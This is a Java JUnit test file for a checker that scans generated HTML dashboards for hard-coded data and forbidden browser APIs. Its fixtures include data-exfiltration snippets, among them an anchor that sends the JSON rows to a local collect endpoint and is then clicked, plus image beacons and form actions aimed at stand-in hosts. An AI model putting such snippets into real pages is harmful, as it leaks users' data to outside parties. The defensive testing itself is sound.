package org.mnemos.programcheck.control;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.mnemos.api.error.ErrorCode;
import org.mnemos.api.node.Violation;
import org.mnemos.dashboard.control.SuperstoreProfile;
import org.mnemos.programcheck.control.Finding.Kind;

/**
 * Plants one forbidden literal, API or markup into an otherwise clean dashboard program over the
 * superstore profile and expects exactly that finding on its line; clean programs pass.
 */
class InjectionCheckTest {

    private static final int SCRIPT_LINE = 15;
    private static final int MARKUP_LINE = 17;
    /** A clean program: reads the JSON block, computes every figure, uses column names, task constants 95/80 and UI numbers. */
    private static final String PROGRAM = """
            <!DOCTYPE html>
            <html><head><meta charset="utf-8"><title>Weekly operations</title>
            <script src="/vendor/vega/vega.min.js"></script></head>
            <body><h1>Sales by Category</h1><div id="kpis"></div><table id="detail"></table>
            <script type="application/json" id="mnemos-data"></script>
            <script>
            const rows = JSON.parse(document.getElementById('mnemos-data').textContent || '[]');
            const num = v => { const n = Number(v); return Number.isFinite(n) ? n : 0; };
            const sum = (field) => rows.reduce((total, r) => total + num(r[field]), 0);
            const colour = a => a >= 95 ? 'green' : a < 80 ? 'red' : 'amber';
            function card(label, value) { const el = document.createElement('div'); el.className = 'kpi'; el.textContent = label + ': ' + value.toFixed(2); return el; }
            document.getElementById('kpis').append(card('Sales', sum('Sales')), card('Profit', sum('Profit')));
            const share = sum('Profit') / (sum('Sales') || 1) * 100, half = 0.5, margin = {top: 2, left: 1};
            document.title = share.toFixed(1) + ' % margin ' + colour(share) + (share > half ? '' : ' low');
            /*SCRIPT*/
            </script>
            <!--MARKUP-->
            </body></html>
            """;

    private final InjectionCheck check = new InjectionCheck(
            new InjectionContract(InjectionPoint.jsonBlock("mnemos-data"), List.of("/vendor/vega/")));

    static Stream<Arguments> planted() {
        return Stream.of(
                script("const focus = 'Technology';", Kind.CATALOG_VALUE, "Technology"),
                script("el.innerHTML = '<td>Furniture</td>';", Kind.CATALOG_VALUE, "<td>Furniture</td>"),
                script("const goal = {West: sum('Sales')};", Kind.CATALOG_VALUE, "West"),
                script("const label = `Segment: ${'x'} Home Office`.length;", Kind.CATALOG_VALUE, "Home Office"),
                markup("<p>Office Supplies</p>", Kind.CATALOG_VALUE, "Office Supplies"),
                markup("<option value=\"Same Day\">x</option>", Kind.CATALOG_VALUE, "Same Day"),
                script("const who = 'Claire Gute';", Kind.SAMPLE_VALUE, "Claire Gute"),
                script("const first = 261.96;", Kind.SAMPLE_VALUE, "261.96"),
                script("const avg = 229.86;", Kind.STATISTIC, "229.86"),
                script("const total = 2297201;", Kind.STATISTIC, "2297201"),
                script("const best = 22638.5;", Kind.STATISTIC, "22638.5"),
                script("const worst = -6599.98;", Kind.STATISTIC, "6599.98"),
                script("const q3 = 209.94;", Kind.STATISTIC, "209.94"),
                script("const orders = 9994;", Kind.STATISTIC, "9994"),
                script("const technology = 1847;", Kind.STATISTIC, "1847"),
                markup("<span>Total: 2,297,200.86</span>", Kind.STATISTIC, "Total: 2,297,200.86"),
                script("const weekly = [120, 340, 560];", Kind.DATA_LITERAL, "[120, 340, 560]"),
                script("const names = ['North', 'Upper', 'Lower'];", Kind.DATA_LITERAL, "['North', 'Upper', 'Lower']"),
                script(
                        "const table = [{name: 'A1', v: 3}, {name: 'B2', v: 4}];",
                        Kind.DATA_LITERAL,
                        "[{name: 'A1', v: 3}, {name: 'B2', v: 4}]"),
                script(
                        "const lookup = {a: 725457.82, b: 678781.24, c: 501239.89};",
                        Kind.DATA_LITERAL,
                        "{a: 725457.82, b: 678781.24, c: 501239.89}"),
                markup(
                        "<script type=\"application/json\" id=\"extra\">[1, 2]</script>",
                        Kind.INLINE_DATA_BLOCK,
                        "[1, 2]"),
                script("fetch('/api/rows');", Kind.FORBIDDEN_API, "fetch"),
                script("const xhr = new XMLHttpRequest();", Kind.FORBIDDEN_API, "XMLHttpRequest"),
                script("const ws = new WebSocket('wss://example.org');", Kind.FORBIDDEN_API, "WebSocket"),
                script("const events = new EventSource('/events');", Kind.FORBIDDEN_API, "EventSource"),
                script("navigator.sendBeacon('/log', 'x');", Kind.FORBIDDEN_API, "navigator.sendBeacon"),
                script("import('/widgets/x.js').then(m => m);", Kind.FORBIDDEN_API, "import"),
                script("eval('1 + 1');", Kind.FORBIDDEN_API, "eval"),
                script("const make = new Function('return 1');", Kind.FORBIDDEN_API, "Function"),
                script("setTimeout('card()', 10);", Kind.FORBIDDEN_API, "setTimeout"),
                script("const jar = document.cookie;", Kind.FORBIDDEN_API, "document.cookie"),
                script("top.location.href = '/';", Kind.FORBIDDEN_API, "top"),
                script("parent.postMessage(rows, '*');", Kind.FORBIDDEN_API, "parent"),
                script("const w = opener;", Kind.FORBIDDEN_API, "opener"),
                script("window.open('/elsewhere');", Kind.FORBIDDEN_API, "window.open"),
                script("localStorage.setItem('k', 'v');", Kind.FORBIDDEN_API, "localStorage"),
                script("sessionStorage.clear();", Kind.FORBIDDEN_API, "sessionStorage"),
                script("window.indexedDB.deleteDatabase('db');", Kind.FORBIDDEN_API, "window.indexedDB"),
                // Issue 29: navigation and form APIs that carry the rows out by navigating the frame.
                script(
                        "const a = document.createElement('a'); a.href = 'http://127.0.0.1:8099/?d=' + rows.length;",
                        Kind.FORBIDDEN_API,
                        "href"),
                script("link.click();", Kind.FORBIDDEN_API, "link.click"),
                script("link['href'] = String(rows.length);", Kind.FORBIDDEN_API, "href"),
                script("link.href += rows.length;", Kind.FORBIDDEN_API, "href"),
                script(
                        "link.setAttribute('href', `https://x.example/?d=${rows.length}`);",
                        Kind.FORBIDDEN_API,
                        "setAttribute('href')"),
                script(
                        "link.setAttributeNS(null, 'href', '/x?' + rows.length);",
                        Kind.FORBIDDEN_API,
                        "setAttribute('href')"),
                script("link.dispatchEvent(new MouseEvent('click'));", Kind.FORBIDDEN_API, "MouseEvent"),
                script("window.location.assign('/x?' + rows.length);", Kind.FORBIDDEN_API, "window.location"),
                script("document.location = '/x';", Kind.FORBIDDEN_API, "document.location"),
                script("location.replace('/x');", Kind.FORBIDDEN_API, "location"),
                script("parent.location = '/x';", Kind.FORBIDDEN_API, "parent"),
                script("link.ownerDocument.location = '/x';", Kind.FORBIDDEN_API, "ownerDocument.location"),
                script("navigation.navigate('/x');", Kind.FORBIDDEN_API, "navigation"),
                script("form.action = '/collect?' + rows.length;", Kind.FORBIDDEN_API, "action"),
                script("form.submit();", Kind.FORBIDDEN_API, "form.submit"),
                script("form.requestSubmit();", Kind.FORBIDDEN_API, "form.requestSubmit"),
                script("meta.httpEquiv = 'refresh';", Kind.FORBIDDEN_API, "httpEquiv"),
                script(
                        "el.innerHTML = '<meta http-equiv=\"refresh\" content=\"0\">';",
                        Kind.FORBIDDEN_API,
                        "http-equiv"),
                script("frame.srcdoc = '<p>x</p>';", Kind.FORBIDDEN_API, "srcdoc"),
                script("new Image().src = '/x?' + rows.length;", Kind.FORBIDDEN_API, "src"),
                script(
                        "img.src = 'https://x.example/pixel.gif';",
                        Kind.EXTERNAL_RESOURCE,
                        "https://x.example/pixel.gif"),
                script("el.style.backgroundImage = 'url(/x?' + rows.length + ')';", Kind.FORBIDDEN_API, "url("),
                script("el.style.background = `url(${rows.length})`;", Kind.FORBIDDEN_API, "url("),
                script("const pc = new RTCPeerConnection({iceServers: []});", Kind.FORBIDDEN_API, "RTCPeerConnection"),
                script("frame.contentWindow.postMessage(rows, '*');", Kind.FORBIDDEN_API, "frame.contentWindow"),
                script(
                        "class Go { to(a) { a.href = 'http://x.example/?' + rows.length; } }",
                        Kind.FORBIDDEN_API,
                        "href"),
                script("class Go { to(a) { a.click(); } }", Kind.FORBIDDEN_API, "a.click"),
                script(
                        "class Go { to(a) { a.setAttributeNS(null, 'href', url); } }",
                        Kind.FORBIDDEN_API,
                        "setAttribute('href')"),
                script(
                        "class Go { to(a) { a.setAttribute('href', url); } }",
                        Kind.FORBIDDEN_API,
                        "setAttribute('href')"),
                markup(
                        "<meta http-equiv=\"refresh\" content=\"0;url=https://x.example/\">",
                        Kind.EXTERNAL_RESOURCE,
                        "0;url=https://x.example/"),
                markup(
                        "<script src=\"https://cdn.example.org/chart.js\"></script>",
                        Kind.EXTERNAL_RESOURCE,
                        "https://cdn.example.org/chart.js"),
                markup(
                        "<script src=\"/vendor/vega/../../x.js\"></script>",
                        Kind.EXTERNAL_RESOURCE,
                        "/vendor/vega/../../x.js"),
                markup("<button onclick=\"card()\">Go</button>", Kind.EVENT_HANDLER, "onclick"),
                markup("<a href=\"javascript:card()\">Go</a>", Kind.JAVASCRIPT_URL, "javascript:card()"),
                script("class Tile { label() { return 'Technology'; } }", Kind.CATALOG_VALUE, "Technology"),
                script("async function load() { return await fetch('/x'); }", Kind.FORBIDDEN_API, "fetch"),
                script("const broken = = 3;", Kind.UNPARSEABLE_SCRIPT, "syntax error"),
                script("const open = 'unterminated;", Kind.UNPARSEABLE_SCRIPT, "unterminated string"));
    }

    @ParameterizedTest(name = "{1}: {0}")
    @MethodSource("planted")
    void catchesThePlantedFindingOnItsLine(String snippet, Kind kind, String literal, String program, int line) {
        List<Finding> findings = check.check(program, SuperstoreProfile.profile(), taskConstants())
                .findings();

        assertThat(findings)
                .extracting(Finding::kind, Finding::literal, Finding::line)
                .contains(tuple(kind, literal, line));
        assertThat(findings).extracting(Finding::line).containsOnly(line);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @ValueSource(
            strings = {
                "",
                "for (const r of rows) { r.Margin = num(r.Profit) / (num(r.Sales) || 1); }",
                "const spec = {mark: 'bar', encoding: {x: {field: 'Category', type: 'nominal'}, y: {aggregate: 'sum', field: 'Sales'}}};",
                "const tooltip = [{field: 'Sales', type: 'quantitative', format: ',.2f'}, {field: 'Profit', type: 'quantitative', format: ',.2f'}];",
                "const domain = [0, 100], palette = ['#3B82F6', '#10B981', '#F59E0B'], thresholds = [0, 80, 95];",
                "const cells = rows.slice(0, 100).map(r => `<tr><td>${r.Category}</td><td>${num(r.Sales).toFixed(2)}</td></tr>`).join('');",
                "class Tile { constructor(name) { this.name = name; } } const tiles = ['Sales', 'Profit', 'Quantity'].map(n => new Tile(n));",
                "const gate = {Supply: '#3B82F6'}; const top = 3; const shown = rows.slice(0, top);",
                "const best = Math.max(...rows.map(r => num(r.Sales)), 0), kinds = [...new Set(rows.map(r => r.Category))];",
                "const a = document.createElement('a'); a.href = '#detail'; a.textContent = 'Details';",
                "const fill = 'url(#grad-' + rows.length + ')', where = rows.map(r => r.location);",
                "document.body.dispatchEvent(new CustomEvent('filtered', {detail: rows.length}));",
                "const chart = {}; chart.data = {values: rows}; chart.action = 'zoom';",
                "class Tile { link(a) { a.href = '#kpis'; } }",
                "const a = document.createElement('a'); a.href = '#row-' + rows.length; const out = {}; out.click = 1;"
            })
    void acceptsACleanProgram(String snippet) {
        InjectionReport report =
                check.check(PROGRAM.replace("/*SCRIPT*/", snippet), SuperstoreProfile.profile(), taskConstants());

        assertThat(report.findings()).isEmpty();
        assertThat(report.accepted()).isTrue();
    }

    /**
     * The program of issue 29's attack, which the check accepted before: an anchor whose href is set at run time
     * to an outside address with the rows appended, then clicked.
     */
    @Test
    void refusesTheExfiltrationProgramNamingEachApi() {
        String program = plant(
                "/*SCRIPT*/",
                "const a = document.createElement('a');\n"
                        + "a.href = 'http://127.0.0.1:8099/collect?rows=' + encodeURIComponent(JSON.stringify(rows));\n"
                        + "document.body.appendChild(a);\n"
                        + "a.click();");

        assertThat(check.check(program, SuperstoreProfile.profile(), taskConstants())
                        .findings())
                .extracting(Finding::kind, Finding::literal, Finding::line)
                .containsExactly(
                        tuple(Kind.FORBIDDEN_API, "href", SCRIPT_LINE + 1),
                        tuple(Kind.FORBIDDEN_API, "a.click", SCRIPT_LINE + 3));
    }

    @Test
    void acceptsARealisticDashboardInNewerSyntax() throws IOException {
        assertThat(check.check(dashboard(), SuperstoreProfile.profile(), taskConstants())
                        .findings())
                .isEmpty();
    }

    @Test
    void findsAHardCodedTotalInTheRealisticDashboard() throws IOException {
        String computed = "kpi('Sales', money.format(sales))";
        String program = dashboard().replace(computed, "kpi('Sales', '$2,297,201')");
        int line = (int)
                dashboard().substring(0, dashboard().indexOf(computed)).lines().count();

        assertThat(check.check(program, SuperstoreProfile.profile(), taskConstants())
                        .findings())
                .extracting(Finding::kind, Finding::literal, Finding::line)
                .containsExactly(tuple(Kind.STATISTIC, "$2,297,201", line));
    }

    @Test
    void acceptsAProgramReadingTheGlobalInjectionPoint() {
        InjectionCheck global =
                new InjectionCheck(new InjectionContract(InjectionPoint.global("MNEMOS_DATA"), List.of()));
        String program = "<html><body><script>\nconst rows = Array.isArray(window.MNEMOS_DATA) ? MNEMOS_DATA : [];\n"
                + "document.body.textContent = rows.length + ' rows';\n</script></body></html>";

        assertThat(global.check(program, SuperstoreProfile.profile(), TaskConstants.none())
                        .findings())
                .isEmpty();
    }

    @Test
    void refusesAProgramThatNeverReadsTheInjectionPoint() {
        String program = PROGRAM.replace("document.getElementById('mnemos-data').textContent", "'[]'");

        assertThat(check.check(program, SuperstoreProfile.profile(), taskConstants())
                        .findings())
                .extracting(Finding::kind, Finding::line)
                .containsExactly(tuple(Kind.NO_INJECTION_READ, 0));
    }

    @Test
    void refusesAProgramOverMaxBytesWithoutReadingIt() {
        InjectionCheck small =
                new InjectionCheck(new InjectionContract(InjectionPoint.jsonBlock("mnemos-data"), List.of(), 1024));
        String program = PROGRAM.replace("/*SCRIPT*/", "// " + "ü".repeat(600));

        InjectionReport report = small.check(program, SuperstoreProfile.profile(), taskConstants());

        assertThat(report.findings()).extracting(Finding::kind).containsExactly(Kind.TOO_LARGE);
        assertThat(report.problemCode()).isEqualTo(ErrorCode.ARTIFACT_TOO_LARGE);
    }

    @Test
    void refusesAScriptNestedTooDeeplyToParse() {
        String program = plant("/*SCRIPT*/", "const deep = " + "[".repeat(20_000) + "]".repeat(20_000) + ";");

        assertThat(check.check(program, SuperstoreProfile.profile(), taskConstants())
                        .findings())
                .extracting(Finding::kind, Finding::line)
                .containsExactly(tuple(Kind.UNPARSEABLE_SCRIPT, SCRIPT_LINE));
    }

    @Test
    void namesEachFindingAsAViolationOfTheContent() {
        InjectionReport report = check.check(
                plant("/*SCRIPT*/", "const focus = 'Technology';"), SuperstoreProfile.profile(), taskConstants());

        assertThat(report.problemCode()).isEqualTo(ErrorCode.DATA_INJECTION_VIOLATION);
        assertThat(report.violations())
                .containsExactly(new Violation(
                        "/content", "line 15: string literal \"Technology\" is a catalog value of column Category"));
    }

    @Test
    void allowsTheUsersOwnConstantsEvenWhenTheyAreData() {
        String program = plant("/*SCRIPT*/", "const highlight = 'Technology', cap = 229.86;");
        TaskConstants constants = TaskConstants.numbers(95, 80, 229.86).withTexts("Technology");

        assertThat(check.check(program, SuperstoreProfile.profile(), constants).findings())
                .isEmpty();
    }

    private static String dashboard() throws IOException {
        try (InputStream page = InjectionCheckTest.class.getResourceAsStream("/artifacts/superstore-dashboard.html")) {
            return new String(page.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static TaskConstants taskConstants() {
        return TaskConstants.numbers(95, 80);
    }

    private static Arguments script(String snippet, Kind kind, String literal) {
        return Arguments.of(snippet, kind, literal, plant("/*SCRIPT*/", snippet), SCRIPT_LINE);
    }

    private static Arguments markup(String snippet, Kind kind, String literal) {
        return Arguments.of(snippet, kind, literal, plant("<!--MARKUP-->", snippet), MARKUP_LINE);
    }

    private static String plant(String placeholder, String snippet) {
        return PROGRAM.replace(placeholder, snippet);
    }
}
